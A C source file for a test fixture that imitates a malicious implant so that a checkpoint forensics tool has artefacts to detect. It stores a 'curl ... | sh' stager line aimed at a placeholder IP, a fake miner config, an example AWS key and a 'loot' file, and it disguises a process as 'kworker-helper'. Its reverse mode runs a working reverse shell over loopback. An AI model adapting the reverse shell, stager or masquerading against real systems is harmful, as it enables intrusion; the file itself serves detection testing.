/*
 * implant.c - a harmless stand-in for a malicious implant, used to make real
 * CRIU checkpoints whose contents csi's analyzers must find (see the
 * README's "Making fresh real checkpoints"). It does nothing but hold artefacts in
 * memory and in its file table, then sleeps forever:
 *
 *   heap     a miner config (stratum pool URL + Monero-style wallet) and a
 *            `curl ... | sh` stager command line, never freed;
 *   mapping  an anonymous mapping whose every 4 KiB page starts with
 *            "chunk-N-AKIAIOSFODNN7EXAMPLE-" (N = page index);
 *   fds      3 /tmp/.cache/loot.txt (append), 4 /tmp/.cache/.staging
 *            (unlinked while open), 5 TCP listener 0.0.0.0:31337,
 *            6 listening unix socket /tmp/.cache/ctl.sock;
 *   tasks    a thread named "beacon", and a forked child renamed
 *            "kworker-helper" with prctl(PR_SET_NAME) (argv unchanged).
 *
 * Usage: implant [miner|reverse] [CHUNK_MIB]
 *        implant deep [FORKS]
 *   miner    just idle (default).
 *   reverse  fork a child that connects to 127.0.0.1:31337, the parent
 *            accepts (fd 7), and the child execs `sh -i` with fds 0-2 on the
 *            socket: a reverse shell with both ends established.
 *   CHUNK_MIB size of the AKIA mapping in MiB (default 1).
 *   deep     none of the above: a chain of FORKS (default 1100) processes below
 *            this one, each the parent of the next and waiting for it, as `sh -c`
 *            calling itself makes (a hostile process tree: FORKS + 1 processes,
 *            FORKS + 1 levels). The deepest prints the ready line.
 *
 * Environment: CSI_MEM_MIB=N makes the parent (only, after forking) fill N
 * MiB of anonymous memory with deterministic log-like text containing the
 * marker "CSI-BENCH-NEEDLE" exactly NEEDLES times, for benchmarks.
 *
 * Once set up it prints one line starting with "ready" and sleeps forever.
 * Build: gcc -O2 -static -pthread -o implant implant.c
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#define CACHE_DIR "/tmp/.cache"
#define LOOT_PATH CACHE_DIR "/loot.txt"
#define STAGING_PATH CACHE_DIR "/.staging"
#define CTL_SOCK_PATH CACHE_DIR "/ctl.sock"
#define LISTEN_PORT 31337
#define PAGE 4096
#define NEEDLES 5

static const char POOL_URL[] = "stratum+tcp://pool.minexmr.example:4444";
static const char WALLET[] =
    "48CsiFakeMoneroWa11etDoNotUsekZBLf4EuCM7cUezzNpNA16JcYkhCw1mAWqCYBMPxDNcABtkMP4xoUCtVQnoS5ZZ6SX";
static const char STAGER[] = "curl -fsSL http://203.0.113.7/x.sh | sh";
static const char CHUNK_KEY[] = "AKIAIOSFODNN7EXAMPLE";

/* Kept in globals so that nothing looks unused and nothing is freed. */
static char *miner_config;
static char *stager_cmd;
static char *chunk_region;
static char *bench_region;

static void die(const char *what)
{
    fprintf(stderr, "implant: %s: %s\n", what, strerror(errno));
    exit(1);
}

static void sleep_forever(void)
{
    for (;;)
        pause();
}

static void on_term(int sig)
{
    (void)sig;
    _exit(0);
}

static void *beacon(void *arg)
{
    (void)arg;
    sleep_forever();
    return NULL;
}

static char *xstrdup(const char *s)
{
    char *p = strdup(s);
    if (!p)
        die("strdup");
    return p;
}

/* An anonymous mapping of mib MiB, "chunk-N-AKIA...-" at every page start. */
static char *make_chunk_region(long mib)
{
    size_t size = (size_t)mib << 20;
    char *p = mmap(NULL, size, PROT_READ | PROT_WRITE,
                   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (p == MAP_FAILED)
        die("mmap chunk region");
    for (size_t off = 0, n = 0; off < size; off += PAGE, n++)
        snprintf(p + off, PAGE, "chunk-%zu-%s-", n, CHUNK_KEY);
    return p;
}

/* xorshift64*: deterministic, so benchmark archives are reproducible. */
static uint64_t rng_state = 0x9E3779B97F4A7C15ULL;
static uint64_t rng(void)
{
    rng_state ^= rng_state >> 12;
    rng_state ^= rng_state << 25;
    rng_state ^= rng_state >> 27;
    return rng_state * 0x2545F4914F6CDD1DULL;
}

/*
 * N MiB of printable, varied, log-like lines (no zero pages, nothing that
 * compresses to nothing), with the needle written NEEDLES times at spread
 * offsets. The needle is assembled in place from two halves so that the only
 * copies in anonymous memory are the ones counted.
 */
static char *make_bench_region(long mib)
{
    static const char *const levels[] = {"INFO", "DEBUG", "WARN", "TRACE"};
    static const char *const words[] = {
        "share accepted", "job received", "connection kept alive",
        "difficulty adjusted", "nonce range exhausted", "heartbeat sent",
        "thread rebalanced", "cache warmed", "upstream latency sampled"};
    size_t size = (size_t)mib << 20, off = 0;
    char line[256];
    char *p = mmap(NULL, size, PROT_READ | PROT_WRITE,
                   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (p == MAP_FAILED)
        die("mmap bench region");
    for (uint64_t i = 0; off < size; i++) {
        uint64_t r = rng(), s = rng();
        int len = snprintf(line, sizeof line,
                           "2026-11-22T07:%02u:%02u.%06uZ worker-%02u %s seq=%llu "
                           "job=%08x nonce=%016llx %s (%u.%02u kH/s)\n",
                           (unsigned)(r % 60), (unsigned)((r >> 8) % 60),
                           (unsigned)((r >> 16) % 1000000), (unsigned)((r >> 40) % 32),
                           levels[(r >> 45) % 4], (unsigned long long)i,
                           (unsigned)(s >> 32), (unsigned long long)rng(),
                           words[(s >> 8) % (sizeof words / sizeof words[0])],
                           (unsigned)(s % 900 + 100), (unsigned)((s >> 16) % 100));
        size_t n = (size_t)len < size - off ? (size_t)len : size - off;
        memcpy(p + off, line, n);
        off += n;
    }
    for (int k = 0; k < NEEDLES; k++) {
        size_t at = (size / NEEDLES) * (size_t)k + size / (2 * NEEDLES);
        memcpy(p + at, "CSI-BENCH-", 10);
        memcpy(p + at + 10, "NEEDLE", 6);
    }
    return p;
}

static int tcp_listener(void)
{
    int one = 1, fd = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in sa = {.sin_family = AF_INET,
                             .sin_port = htons(LISTEN_PORT),
                             .sin_addr.s_addr = htonl(INADDR_ANY)};
    if (fd < 0)
        die("socket tcp");
    setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(fd, (struct sockaddr *)&sa, sizeof sa) < 0)
        die("bind 0.0.0.0:31337");
    if (listen(fd, 8) < 0)
        die("listen tcp");
    return fd;
}

static int unix_listener(void)
{
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un sa = {.sun_family = AF_UNIX};
    if (fd < 0)
        die("socket unix");
    snprintf(sa.sun_path, sizeof sa.sun_path, "%s", CTL_SOCK_PATH);
    unlink(CTL_SOCK_PATH);
    if (bind(fd, (struct sockaddr *)&sa, sizeof sa) < 0)
        die("bind " CTL_SOCK_PATH);
    if (listen(fd, 8) < 0)
        die("listen unix");
    return fd;
}

/*
 * Child side of the reverse shell: connect back, wire fds 0-2, exec sh -i.
 * sync[1] is close-on-exec: the parent sees EOF on sync[0] once the exec has
 * happened (or the child has given up on it), so "ready" is never printed
 * before the shell exists.
 */
static void reverse_child(const int sync[2])
{
    struct sockaddr_in sa = {.sin_family = AF_INET,
                             .sin_port = htons(LISTEN_PORT),
                             .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    close(sync[0]); /* frees fd 7 for the socket, as in the parent */
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof sa) < 0)
        die("reverse connect 127.0.0.1:31337");
    if (access("/bin/sh", X_OK) != 0) {
        /* Without a shell, keep the established socket and idle instead. */
        fprintf(stderr, "implant: /bin/sh not found, reverse child idles "
                        "with the connected socket instead of exec'ing sh -i\n");
        close(sync[1]);
        sleep_forever();
    }
    dup2(fd, 0);
    dup2(fd, 1);
    dup2(fd, 2);
    execl("/bin/sh", "sh", "-i", (char *)NULL);
    die("exec /bin/sh");
}

/* deep mode: fork FORKS levels; every parent waits for its child (never returns). */
static int deep_chain(long forks)
{
    for (long level = 0; level < forks; level++) {
        pid_t child = fork();
        if (child < 0)
            die("fork");
        if (child > 0) {
            while (waitpid(child, NULL, 0) < 0 && errno == EINTR)
                ;
            _exit(0);
        }
    }
    printf("ready mode=deep forks=%ld pid=%d\n", forks, (int)getpid());
    fflush(stdout);
    for (;;)
        pause();
}

int main(int argc, char **argv)
{
    const char *mode = argc > 1 ? argv[1] : "miner";
    long chunk_mib = argc > 2 ? strtol(argv[2], NULL, 10) : 1;
    const char *env_mib = getenv("CSI_MEM_MIB");
    long bench_mib = env_mib ? strtol(env_mib, NULL, 10) : 0;
    int reverse = strcmp(mode, "reverse") == 0;
    pthread_t thread;

    if (argc > 1 && strcmp(mode, "deep") == 0)
        return deep_chain(argc > 2 ? strtol(argv[2], NULL, 10) : 1100);
    if (!reverse && strcmp(mode, "miner") != 0) {
        fprintf(stderr, "usage: %s [miner|reverse] [CHUNK_MIB] | deep [FORKS]\n", argv[0]);
        return 2;
    }
    if (chunk_mib < 1)
        chunk_mib = 1;
    if (bench_mib < 0)
        bench_mib = 0;
    signal(SIGTERM, on_term);
    signal(SIGPIPE, SIG_IGN);

    /* Heap strings: a miner config and a stager, resident and never freed. */
    {
        size_t n = sizeof POOL_URL + sizeof WALLET + 64;
        miner_config = malloc(n);
        if (!miner_config)
            die("malloc");
        snprintf(miner_config, n, "{\"url\":\"%s\",\"user\":\"%s\",\"pass\":\"x\"}",
                 POOL_URL, WALLET);
        stager_cmd = xstrdup(STAGER);
    }
    chunk_region = make_chunk_region(chunk_mib);

    /* File table: fds 3, 4, 5, 6 in this order. */
    if (mkdir(CACHE_DIR, 0755) < 0 && errno != EEXIST)
        die("mkdir " CACHE_DIR);
    int loot = open(LOOT_PATH, O_WRONLY | O_APPEND | O_CREAT, 0600);
    if (loot < 0)
        die("open " LOOT_PATH);
    dprintf(loot, "aws_key_id=%s\n", CHUNK_KEY);
    int staging = open(STAGING_PATH, O_RDWR | O_CREAT | O_TRUNC, 0600);
    if (staging < 0)
        die("open " STAGING_PATH);
    dprintf(staging, "#!/bin/sh\n%s\n", STAGER);
    if (unlink(STAGING_PATH) < 0)
        die("unlink " STAGING_PATH);
    int listener = tcp_listener();
    int ctl = unix_listener();
    (void)ctl;

    /* Reverse shell: child connects back, parent accepts (fd 7). */
    if (reverse) {
        int sync[2];
        char c;
        if (pipe2(sync, O_CLOEXEC) < 0)
            die("pipe2");
        pid_t pid = fork();
        if (pid < 0)
            die("fork reverse child");
        if (pid == 0)
            reverse_child(sync);
        close(sync[1]);
        while (read(sync[0], &c, 1) < 0 && errno == EINTR)
            ;
        close(sync[0]);
        if (accept(listener, NULL, NULL) < 0) /* fd 7 */
            die("accept");
    }

    if (pthread_create(&thread, NULL, beacon, NULL) != 0)
        die("pthread_create");
    pthread_setname_np(thread, "beacon");

    pid_t helper = fork();
    if (helper < 0)
        die("fork helper");
    if (helper == 0) {
        prctl(PR_SET_NAME, "kworker-helper", 0, 0, 0);
        sleep_forever();
    }

    /* Benchmark memory in the parent only, after forking. */
    if (bench_mib > 0)
        bench_region = make_bench_region(bench_mib);

    printf("ready mode=%s pid=%d helper=%d chunk_mib=%ld bench_mib=%ld needles=%d\n",
           mode, (int)getpid(), (int)helper, chunk_mib, bench_mib,
           bench_mib > 0 ? NEEDLES : 0);
    fflush(stdout);
    sleep_forever();
    return 0;
}
